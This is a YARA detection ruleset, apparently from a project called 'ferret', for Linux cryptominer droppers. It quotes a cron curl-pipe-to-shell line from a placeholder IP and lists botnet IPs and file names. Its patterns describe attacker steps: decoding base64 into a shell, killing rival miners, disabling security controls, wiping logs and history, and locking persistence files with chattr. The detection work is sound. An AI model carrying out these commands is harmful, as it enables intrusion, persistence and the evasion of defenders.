/*
   ferret curated YARA rules: shell and cron droppers of miner campaigns
   (T1105 ingress tool transfer, T1053.003 cron, T1562 impair defenses, T1070 indicator removal).
   Text rules: bounded by filesize, ELF/PE excluded where the pattern is a script idiom.
   Each rule needs a combination (download AND execute, kill AND miner name, ...), never one word.
*/

rule Ferret_Cron_Download_Pipe_Shell : dropper cron linux
{
   meta:
      description = "Cron entry that periodically downloads a script and pipes it into a shell (curl|sh, wget -O-|sh)"
      author = "ferret"
      reference = "docs/threats.md#case-5 (*/5 * * * * curl -fsSL http://IP:8443/i.sh | sh); T1053.003, T1105"
      date = "2026-11-22"
      score = 85
      mitre_attack = "T1053.003"
   strings:
      $c = /(\* \* \* \*|@reboot|@hourly|@daily)[ \t]{1,8}[^\n]{0,60}(curl|wget)[ \t][^\n]{0,200}\|[ \t]{0,4}(sudo )?(ba|da|z)?sh\b/ ascii
   condition:
      filesize < 256KB
      and not uint32(0) == 0x464c457f
      and $c
}

rule Ferret_Dropper_Download_Exec_From_IP : dropper linux
{
   meta:
      description = "Script downloading from a bare IP address and executing it: piped into a shell, or saved to a temp dir and made executable"
      author = "ferret"
      reference = "docs/threats.md#case-5 (curl/wget from 218.248.40.228:8443); T1105 Ingress Tool Transfer"
      date = "2026-11-22"
      score = 75
      mitre_attack = "T1105"
   strings:
      $pipe = /(curl|wget)[ \t][^\n]{0,120}(https?|ftp):\/\/[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}(:[0-9]{1,5})?\/[^\n]{0,160}\|[ \t]{0,4}(sudo )?(ba|da|z)?sh\b/ ascii
      $save = /(curl|wget)[ \t][^\n]{0,120}(https?|ftp):\/\/[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}[^\n]{0,160}(-O|-o|>)[ \t]{0,3}\/(tmp|var\/tmp|dev\/shm)\// ascii
      $chmod = /chmod[ \t]{1,3}(\+x|[0-7]?[0-7]7[0-7]|[0-7]?7[0-7]{2})[ \t]{1,3}\/(tmp|var\/tmp|dev\/shm)\// ascii
   condition:
      filesize < 1MB
      and not uint32(0) == 0x464c457f
      and ( $pipe or ( $save and $chmod ) )
}

rule Ferret_Dropper_Base64_Exec : dropper linux
{
   meta:
      description = "Script decoding base64 straight into a shell or into Python exec()"
      author = "ferret"
      reference = "docs/threats.md#techniques (base64-decode pipes); T1140 Deobfuscate/Decode, T1059.004 Unix Shell"
      date = "2026-11-22"
      score = 75
      mitre_attack = "T1140"
   strings:
      $sh = /base64[ \t]{1,3}(-d|--decode|-di|-D)[^\n]{0,60}\|[ \t]{0,4}(sudo )?(ba|da|z)?sh\b/ ascii
      $py1 = /exec\([ \t]{0,2}base64\.b64decode\(/ ascii
      $py2 = /exec\([ \t]{0,2}__import__\(["']base64["']\)\.b64decode\(/ ascii
   condition:
      filesize < 2MB
      and not uint32(0) == 0x464c457f
      and 1 of them
}

rule Ferret_Dropper_Kills_Competing_Miners : dropper miner linux
{
   meta:
      description = "Script killing competing miners: several pkill/killall/grep|kill lines aimed at known miner names or pool ports"
      author = "ferret"
      reference = "docs/threats.md#techniques (miner campaigns clear rivals before starting their own); T1489 Service Stop, T1496"
      date = "2026-11-22"
      score = 75
      mitre_attack = "T1496"
   strings:
      $k1 = /(pkill|killall)([ \t]{1,3}(-9|-KILL|-f|-u[ \t]{1,3}[a-z0-9_-]{1,32})){0,3}[ \t]{1,3}["']?[^\s"';|&]{0,40}(xmrig|xmr-stak|minerd|cpuminer|kdevtmpfsi|kinsing|kworkerds|kthreaddi|ddgs|sysupdate|networkservice|sysguard|watchbog|watchdogs|dbused|cryptonight|stratum|minexmr|supportxmr|nanopool|c3pool|f2pool)/ ascii
      $k2 = /grep[ \t][^\n|]{0,40}(xmrig|xmr-stak|minerd|cpuminer|kdevtmpfsi|kinsing|kworkerds|kthreaddi|ddgs|sysupdate|networkservice|sysguard|watchbog|watchdogs|dbused|cryptonight|stratum|minexmr|supportxmr|nanopool|c3pool|f2pool)[^\n]{0,160}(kill -9|kill -KILL|xargs kill|xargs -I ?% kill)/ ascii
      $k3 = /netstat -[a-z]{1,8}[ \t]{0,2}\|[ \t]{0,2}grep[ \t][^\n]{0,30}(:3333|:4444|:5555|:7777|:14444|:14433|:45700|stratum)[^\n]{0,160}kill/ ascii
      // by CPU share: every process above a CPU percentage is killed (TeamTNT, Rocke/8220, WatchDog)
      $k4 = /ps[ \t]{1,3}(aux|-eo[ \t][^\n|]{0,40})[^\n]{0,40}\|[ \t]{0,2}(grep[^\n|]{0,40}\|[ \t]{0,2})?awk[ \t]{1,3}'[^'\n]{0,20}\$3[ \t]{0,2}>[ \t]{0,2}[0-9]{1,3}(\.[0-9])?[^\n]{0,80}kill/ ascii
      // rival miners run as containers: docker ps | grep <miner image> | ... docker rm -f / docker kill
      $k5 = /docker[ \t]{1,3}ps[^\n]{0,40}\|[ \t]{0,2}grep[ \t][^\n|]{0,40}(xmr|miner|monero|pocosow|gakeaws|auto)[^\n]{0,120}docker[ \t]{1,3}(rm -f|kill|stop)/ ascii
   condition:
      filesize < 2MB
      and not uint32(0) == 0x464c457f
      and ( #k1 + #k2 + #k3 + #k4 + #k5 ) >= 3
}

rule Ferret_Dropper_Impairs_Defenses : dropper linux
{
   meta:
      description = "Script that switches off security controls (SELinux, ufw/firewalld, cloud security agents, NMI watchdog) AND wipes logs or shell history"
      author = "ferret"
      reference = "docs/threats.md#case-3 (wiped log gap), case 4; T1562.001 Disable or Modify Tools, T1070.002 Clear Linux Logs"
      date = "2026-11-22"
      score = 75
      mitre_attack = "T1562.001"
   strings:
      $d1 = "setenforce 0" ascii
      $d2 = "ufw disable" ascii
      $d3 = /sed[ \t][^\n]{0,40}SELINUX=(disabled|permissive)/ ascii
      $d4 = /systemctl[ \t]{1,3}(stop|disable|mask)[ \t]{1,3}(apparmor|firewalld|auditd|aliyun|aegis|cloudmonitor|qcloud|yunjing|falcon-sensor)/ ascii
      $d5 = /service[ \t]{1,3}(apparmor|firewalld|auditd|aliyun|aegis|cloudmonitor)[ \t]{1,3}stop/ ascii
      $d6 = /rm[ \t]{1,3}-r?f?r?[ \t]{1,3}\/usr\/local\/(aegis|qcloud|cloudmonitor)/ ascii
      $d7 = /(iptables -F|iptables --flush)/ ascii
      $d8 = /echo[ \t]{1,3}0[ \t]{0,2}>[ \t]{0,2}\/proc\/sys\/kernel\/nmi_watchdog/ ascii

      $t1 = /rm[ \t]{1,3}-r?f?r?[ \t]{1,3}\/var\/log\/(wtmp|btmp|lastlog|secure|auth\.log|messages|syslog|\*)/ ascii
      $t2 = /(echo|cat \/dev\/null|:)[ \t]{0,2}>[ \t]{0,2}\/var\/log\/(wtmp|btmp|lastlog|secure|auth\.log|messages|syslog)/ ascii
      $t3 = "history -c" ascii
      $t4 = /(unset HISTFILE|HISTFILE=\/dev\/null|HISTSIZE=0)/ ascii
      $t5 = /rm[ \t]{1,3}-r?f?[ \t]{1,3}(~|\/root|\$HOME)\/\.bash_history/ ascii
   condition:
      filesize < 1MB
      and not uint32(0) == 0x464c457f
      and (
         ( 2 of ($d*) and 1 of ($t*) )
         or ( 1 of ($d*) and 2 of ($t*) )
      )
}

rule Ferret_Dropper_Chattr_Lock_Persistence : dropper linux
{
   meta:
      description = "Script making cron, authorized_keys, ld.so.preload or rc.local immutable (chattr +i/+a) so the persistence cannot be removed"
      author = "ferret"
      reference = "docs/threats.md#case-3, #case-5 (cron re-infection); T1222.002 Linux File Permissions Modification"
      date = "2026-11-22"
      score = 70
      mitre_attack = "T1222.002"
   strings:
      $c = /chattr[ \t]{1,3}(-R[ \t]{1,3})?\+[ai]{1,2}[ \t]{1,3}[^\n]{0,80}(\/var\/spool\/cron|\/etc\/cron|authorized_keys|ld\.so\.preload|\/etc\/rc\.local)/ ascii
      // the unlock-write-relock cycle of TeamTNT/Kinsing/WatchDog: system files or the dropper's own binary
      // unlocked (chattr -i/-ia), then locked again; also chattr itself renamed or restored to dodge defenders
      $u = /chattr[ \t]{1,3}(-R[ \t]{1,3})?-[ai]{1,2}[ \t]{1,3}[^\n]{0,80}(\/etc\/passwd|\/etc\/shadow|\/root\/\.ssh|\/usr\/bin\/|\/usr\/sbin\/|\/bin\/|\/etc\/hosts|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)/ ascii
      $l = /chattr[ \t]{1,3}(-R[ \t]{1,3})?\+[ai]{1,2}[ \t]{1,3}[^\n]{0,80}(\/etc\/passwd|\/etc\/shadow|\/root\/\.ssh|\/usr\/bin\/|\/usr\/sbin\/|\/bin\/|\/etc\/hosts|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)/ ascii
      $r = /(mv|cp)[ \t]{1,3}[^\n]{0,20}\/(usr\/)?bin\/chattr[ \t]{1,3}[^\n]{1,60}/ ascii
   condition:
      filesize < 1MB
      and not uint32(0) == 0x464c457f
      and ( $c or ( #u >= 2 and $l ) or ( $r and ( $u or $l ) ) )
}

rule Ferret_DDG_Botnet_Artifacts : dropper miner linux
{
   meta:
      description = "DDG botnet downloader/guardian: its hosts together with its file names (i.sh, ddg.<version>, wnTKYg)"
      author = "ferret"
      reference = "docs/threats.md#case-5 (DDG botnet miner); T1105, T1496"
      date = "2026-11-22"
      score = 90
      mitre_attack = "T1105"
   strings:
      $ip1 = "218.248.40.228" ascii
      $ip2 = "104.131.231.181" ascii
      $ip3 = "163.172.226.120" ascii
      $n1 = "wnTKYg" ascii fullword
      $n2 = /ddg\.[0-9]{3,5}/ ascii
      $n3 = "/i.sh" ascii
   condition:
      filesize < 20MB
      and (
         ( 1 of ($ip*) and 1 of ($n*) )
         or ( $n1 and ( $n2 or $n3 ) )
      )
}
